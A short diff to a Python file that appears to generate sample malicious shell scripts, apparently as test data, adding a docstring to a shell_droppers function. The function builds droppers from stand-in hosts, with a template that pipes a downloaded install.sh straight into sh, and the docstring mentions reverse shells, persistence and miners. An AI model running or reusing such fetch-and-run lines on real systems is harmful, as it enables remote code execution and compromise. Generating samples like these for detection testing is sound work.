@@ -171,6 +171,7 @@ def js_droppers():
 
 
 def shell_droppers():
+    """Harmless shell droppers and backdoors: fetch-and-run, reverse shells, persistence, miners."""
     hosts = ["update.example.invalid", "198.51.100.7", "203.0.113.9", "mirror.example.invalid"]
     forms = [
         "#!/bin/sh\ncurl -fsSL http://{h}/install.sh | sh\n",
